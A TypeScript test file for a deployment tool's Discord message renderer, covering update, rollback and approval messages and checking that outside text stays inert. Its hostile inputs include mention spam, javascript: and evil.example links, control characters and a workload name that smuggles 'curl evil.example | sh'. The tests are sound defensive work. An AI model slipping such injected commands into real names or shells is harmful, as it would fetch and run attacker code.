import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { open } from "#channels/discord/channel";
import { longestJson } from "#channels/json-text";
import { type Story, storyOf, type UpdateStory } from "#domain/notify/story";
import type { Outcome } from "#domain/notify/words";
import type { UpdatesSender } from "#ports/channels";
import { aChange, api, digest } from "#test/domain/builders";
import { toolsWith } from "../sending.ts";
import {
  alone,
  heldByWindow,
  rolledBack,
  running,
  storyAfter,
  succeeded,
  waitingForApproval,
} from "../slack/stories.ts";
import { messageFaults, readDiscord } from "../stand-ins/discord.ts";

interface Message {
  readonly content: string;
  readonly embeds: readonly {
    readonly color: number;
    readonly description: string;
    readonly fields?: readonly { readonly name: string; readonly value: string; readonly inline: boolean }[];
    readonly footer?: { readonly text: string };
  }[];
}

const sender = open({ name: "releases" }, toolsWith("https://discord.com/api/webhooks/1/canary")) as UpdatesSender;
const render = (story: Story) => sender.render(story) as Message;
const renderFailure = (update: UpdateStory) => sender.renderFailure(update) as Message;

/** The texts of a message in which Discord reads markup. */
const textsOf = ({ content, embeds }: Message): readonly string[] => [
  content,
  ...embeds.flatMap(({ description, fields = [] }) => [
    description,
    ...fields.flatMap(({ name, value }) => [name, value]),
  ]),
];

/** What a person sees of a message. */
const seen = ({ content, embeds }: Message) => ({
  content: readDiscord(content).text,
  lines: embeds.flatMap(({ description, fields = [], footer }) => [
    ...readDiscord(description).text.split("\n"),
    ...fields.map(({ name, value }) => `${name}: ${readDiscord(value).text.replaceAll("\n", " | ")}`),
    ...(footer === undefined ? [] : [footer.text]),
  ]),
});

const about = ["Where: prod/shop (Deployment)", "Image: 1.0.0 → 1.1.0", "Digest: 111111111111", "Policy: semver"];
const pushed = [
  "2026-03-02 12:00:00 · pushed registry.test/shop/app:1.1.0 @ 111111111111 (webhook distribution)",
  "12:00:01 · selected 1.0.0 → 1.1.0 semver",
];
const footer = (passed: string) => `update 17 · webhook distribution · ${passed} after the push · times in UTC`;

describe("the message about an update", () => {
  it("that runs has its images, its steps and nothing to do", () => {
    expect(render(alone(running))).toEqual({
      content: "🔄 prod/shop/api: in progress, 1.0.0 → 1.1.0",
      embeds: [
        {
          color: 0x3b82f6,
          description: [
            String.raw`2026-03-02 12:00:00 · pushed registry.test\/shop/app:1.1.0 \@ 111111111111 \(webhook distribution\)`,
            "12:00:01 · selected 1.0.0 → 1.1.0 semver",
            "12:00:02 · patched container app 2.0 s after the push",
            "12:00:04 ✓ running 3 of 3 pods run 1.1.0 4.0 s after the push",
          ].join("\n"),
          fields: [
            { name: "Where", value: String.raw`prod/shop \(Deployment\)`, inline: true },
            { name: "Image", value: "1.0.0 → 1.1.0", inline: true },
            { name: "Digest", value: "111111111111", inline: true },
            { name: "Policy", value: "semver", inline: true },
          ],
          footer: { text: footer("4s") },
        },
      ],
    });
  });

  it.each([
    {
      name: "that succeeded",
      rows: succeeded,
      content: "✅ prod/shop/api: succeeded, 1.0.0 → 1.1.0",
      lines: [
        ...pushed,
        "12:00:02 · patched container app 2.0 s after the push",
        "12:00:04 ✓ running 3 of 3 pods run 1.1.0 4.0 s after the push",
        "12:00:14 ✓ succeeded 3 of 3 pods run 1.1.0",
        ...about,
        footer("14s"),
      ],
    },
    {
      name: "that was rolled back names the cause and the command that lets it be tried again",
      rows: rolledBack,
      content: "⏪ prod/shop/api: rolled back, 1.0.0 → 1.1.0",
      lines: [
        ...pushed,
        "12:00:02 · patched container app 2.0 s after the push",
        "12:00:05 ✗ failed 1.1.0: ImagePullBackOff in pod api-7 5.0 s after the push",
        "12:00:09 ↩ rolled back to 1.0.0; 1.1.0 is blocked here until lookout unblock shop/api",
        "Let this image be tried again: lookout unblock shop/api",
        ...about,
        footer("9s"),
      ],
    },
    {
      name: "that a window holds says when it opens",
      rows: heldByWindow,
      content: "⏳ prod/shop/api: waiting, 1.0.0 → 1.1.0",
      lines: [
        ...pushed,
        "12:00:01 ⏸ held The maintenance window is closed: 0 18 * * 5 until 2026-03-02T13:00:00.000Z",
        "Wait until the window opens. If no time is shown, it does not open within eight years.",
        ...about,
        footer("1s"),
      ],
    },
    {
      name: "that waits for approval has the commands to type",
      rows: waitingForApproval,
      content: "✋ prod/shop/api: waiting for approval, 1.0.0 → 1.1.0",
      lines: [
        ...pushed,
        "12:00:01 ⏸ held This update waits for approval: 0 of 2",
        "Approve it: lookout approve shop/api --update 17",
        "Reject it: lookout reject shop/api --update 17 --why REASON",
        ...about,
        footer("1s"),
      ],
    },
  ])("$name", ({ rows, content, lines }) => {
    expect(seen(render(alone(rows)))).toEqual({ content, lines });
  });

  it("whose rollback failed for a while says that the image comes again, and names no block", () => {
    const limited = rolledBack.map((row) =>
      row.what === "rolled-back" ? { ...row, reasons: [{ reason: "pull-limited" } as const] } : row,
    );
    expect(seen(render(alone(limited))).lines.slice(4, 6)).toEqual([
      "12:00:09 ↩ rolled back to 1.0.0; 1.1.0 comes again later",
      "Pull with credentials or through a mirror. Continue now: lookout unblock shop/api.",
    ]);
  });

  it("of many containers and steps is short", () => {
    const changes = Array.from({ length: 8 }, (_, index) => aChange({ name: `c${index}`, digest: digest(`${index}`) }));
    const held = Array.from({ length: 20 }, (_, index) => ({
      ...({ what: "held", after: 10 + index, changes } as const),
      reasons: [{ reason: "window-closed", detail: `look ${index}` } as const],
    }));
    const { lines } = seen(render(alone([...running, ...held])));
    const first = [0, 1, 2, 3, 4];
    expect(lines.slice(0, 4)).toEqual([
      ...pushed,
      "… 12 more",
      "12:00:20 ⏸ held The maintenance window is closed: look 10",
    ]);
    expect(lines.slice(-5)).toEqual([
      "Where: prod/shop (Deployment)",
      `Image: ${first.map((index) => `c${index}: 1.0.0 → 1.1.0`).join(" | ")} | … 3 more`,
      `Digest: ${first.map((index) => `c${index}: ${String(index).repeat(12)}`).join(" | ")} | … 3 more`,
      "Policy: semver",
      footer("29s"),
    ]);
    expect(lines).toHaveLength(19);
  });

  const withPage = (url: string): UpdateStory => ({
    ...storyAfter(succeeded),
    changes: [aChange({ whatChanged: { url, to: { source: "https://github.com/acme/api", revision: "bbbbbbb" } } })],
  });
  const linksOf = (updates: readonly UpdateStory[]) =>
    textsOf(render(storyOf(updates))).flatMap((text) => readDiscord(text).links);
  const compared = "https://github.com/acme/api/compare/aaaaaaa...bbbbbbb";

  it.each([
    { what: "one", updates: [withPage(compared)] },
    { what: "many with the same commits", updates: [withPage(compared), withPage(compared)] },
  ])("links the commits between its images: $what", ({ updates }) => {
    expect(linksOf(updates)).toEqual([{ url: compared, label: "what changed" }]);
  });

  it.each([
    "javascript:alert(1)",
    "https://evil.example/a)b",
    "https://evil.example/a@b",
    "http://evil.example/a",
    "https://user@evil.example/a",
  ])("does not link %s", (url) => {
    expect(linksOf([withPage(url)])).toEqual([]);
  });

  it("of one failure tells it and the command, without the steps before", () => {
    expect(seen(renderFailure(storyAfter(rolledBack)))).toEqual({
      content: "⏪ prod/shop/api: rolled back, 1.0.0 → 1.1.0",
      lines: [
        "2026-03-02 12:00:05 ✗ failed 1.1.0: ImagePullBackOff in pod api-7 5.0 s after the push",
        "2026-03-02 12:00:09 ↩ rolled back to 1.0.0; 1.1.0 is blocked here until lookout unblock shop/api",
        "Let this image be tried again: lookout unblock shop/api",
      ],
    });
  });

  it("of a failure without steps has no embed, which Discord would refuse", () => {
    const message = renderFailure({ ...storyAfter(rolledBack), outcome: "failed", steps: [], reasons: [] });
    expect(message).toEqual({ content: "❌ prod/shop/api: failed, 1.0.0 → 1.1.0", embeds: [] });
  });
});

describe("the message about a push", () => {
  const named = (rows: typeof running, name: string) => storyAfter(rows, { ...api, name });

  it("of 500 workloads counts all, and names ten, the failures first", () => {
    const updates = [
      ...Array.from({ length: 497 }, (_, index) => named(succeeded, `app-${index}`)),
      ...["a", "b", "c"].map((name) => named(rolledBack, name)),
    ];
    const bad = (name: string) =>
      `⏪ prod/shop/${name}: rolled back · 1.0.0 → 1.1.0 · 1.1.0: ImagePullBackOff in pod api-7 5.0 s after the push`;
    expect(seen(render(storyOf(updates)))).toEqual({
      content: "⏪ 500 workloads: 3 rolled back, 497 succeeded",
      lines: [
        ...["a", "b", "c"].map(bad),
        ...Array.from({ length: 7 }, (_, index) => `✅ prod/shop/app-${index}: succeeded · 1.0.0 → 1.1.0`),
        "… 490 more",
        ...["a", "b", "c"].map((name) => `Let this image be tried again: lookout unblock shop/${name}`),
      ],
    });
  });

  it("of two that wait for approval has a command for each", () => {
    const updates = ["a", "b"].map((name) => named(waitingForApproval, name));
    expect(seen(render(storyOf(updates)))).toEqual({
      content: "⏳ 2 workloads: 2 waiting",
      lines: [
        ...["a", "b"].map(
          (name) =>
            `✋ prod/shop/${name}: waiting for approval · 1.0.0 → 1.1.0 · This update waits for approval: 0 of 2`,
        ),
        ...["a", "b"].map((name) => `Approve it: lookout approve shop/${name} --update 17`),
      ],
    });
  });
});

const hostileTexts = [
  "@everyone @here <@1> <@!1> <@&1> <#1> </x:1> <t:1:R> <id:customize> <a:x:1>",
  "[a](javascript:alert(1)) [b](https://evil.example) ](https://evil.example)",
  "<https://evil.example|the log> https://evil.example/x evil.com www.evil.test HTTP://EVIL.example steam://run/1",
  "discord.gg/abc DISCORD.GG/abc discord.com/invite/abc discordapp.com/invite/abc https://discord.gg/abc",
  "``` `x` *b* **b** _i_ __u__ ~~s~~ ||s|| ***x***",
  "# h",
  "-# h",
  "> q",
  ">>> q",
  "- l",
  "+ l",
  "* l",
  "12. l",
  "\\ \\\\ \\* \\@everyone \\<@1> \\\\[a\\](https://evil.example) \\",
  "a\u0000b\u0007\u001b[31mred\r\n# next\u2028> line",
  "\ud800 and \udc00 @\u200beveryone",
  "\u202eelgoog\u202c \u200f\u061c \u2066x\u2069",
  "界".repeat(5_000),
  "\u{1f525}".repeat(5_000),
  '"'.repeat(5_000),
  "\\".repeat(5_000),
  "*".repeat(5_000),
  "/".repeat(5_000),
  "x".repeat(1_024 * 1_024),
  " ".repeat(5_000),
  "",
];

/** Replaces all texts from outside. */
function withText(story: UpdateStory, text: string, outcome: Outcome = story.outcome): UpdateStory {
  return {
    ...story,
    outcome,
    workload: { cluster: text, namespace: text, kind: "Deployment", name: text },
    found: { source: text, at: story.at },
    changes: Array.from({ length: 12 }, (_, index) => ({
      ...aChange({ name: `${text}${index}`, tag: `${text}${index}`, digest: `${text}${index}`, policy: text }),
      from: text,
    })),
    steps: Array.from({ length: 30 }, () => ({ at: story.at, mark: "bad", word: "failed", text })),
  };
}

/** What Discord would refuse, what people would be notified of, and what a reader can't see. */
function faultsOf(message: Message): unknown {
  const read = textsOf(message).map(readDiscord);
  const footers = message.embeds.map((embed) => embed.footer?.text ?? "");
  return {
    faults: messageFaults({ ...message, allowed_mentions: { parse: [] } }),
    tooLong: longestJson(message) > 12_000,
    mentions: read.flatMap(({ mentions }) => mentions),
    links: read.flatMap(({ links }) => links),
    // Only a name that is safe in a command is shown in one.
    styled: read.flatMap(({ styled }) => styled).filter((mark) => !/^code lookout [\w ./-]+$/.test(mark)),
    invisible: /[\p{Cc}\p{Cf}\p{Cs}]/u.test([...textsOf(message), ...footers].join("").replaceAll("\n", "")),
  };
}

const nothing = { faults: [], tooLong: false, mentions: [], links: [], styled: [], invisible: false };

describe("a text from outside", () => {
  const outcomes = ["rolled-back", "waiting", "failed", "succeeded"] as const;
  const stories = (text: string, which: readonly Outcome[] = outcomes) => {
    const one = storyAfter(rolledBack);
    return which.flatMap((outcome) => {
      const update = withText(one, text, outcome);
      const asked: UpdateStory = { ...update, reasons: [{ reason: "needs-approval", detail: text }] };
      const many: Story = storyOf(Array.from({ length: 30 }, () => asked));
      return [
        [`${outcome}, one`, render(storyOf([update]))],
        [`${outcome}, asked`, render(storyOf([asked]))],
        [`${outcome}, many`, render(many)],
        [`${outcome}, failure`, renderFailure(update)],
      ] as const;
    });
  };

  it.each(hostileTexts.map((text) => ({ shown: JSON.stringify(text).slice(0, 60), text })))(
    "is inert and short: $shown",
    ({ text }) => {
      for (const [which, message] of stories(text))
        expect({ which, ...(faultsOf(message) as object) }).toEqual({ which, ...nothing });
    },
  );

  it("is inert, whatever it is", () => {
    const parts = fc.oneof(fc.constantFrom(...hostileTexts.slice(0, 17)), fc.string({ unit: "binary" }));
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 6 }), (texts) => {
        for (const [, message] of stories(texts.join(""), ["waiting"])) expect(faultsOf(message)).toEqual(nothing);
      }),
    );
  });

  it("is never a part of a command to type", () => {
    const message = render(alone(rolledBack, { ...api, name: "api; curl evil.example | sh" }));
    expect(textsOf(message).flatMap((text) => readDiscord(text).styled)).toEqual([]);
  });

  it("shows its own characters", () => {
    const name = String.raw`a_b*c\d|e<f>#g[h](i)@j`;
    expect(seen(render(alone(rolledBack, { ...api, name }))).content).toBe(
      `⏪ prod/shop/${name}: rolled back, 1.0.0 → 1.1.0`,
    );
  });
});

it("the same story gives the same message", () => {
  expect(JSON.stringify(render(alone(rolledBack)))).toBe(JSON.stringify(render(alone(rolledBack))));
});
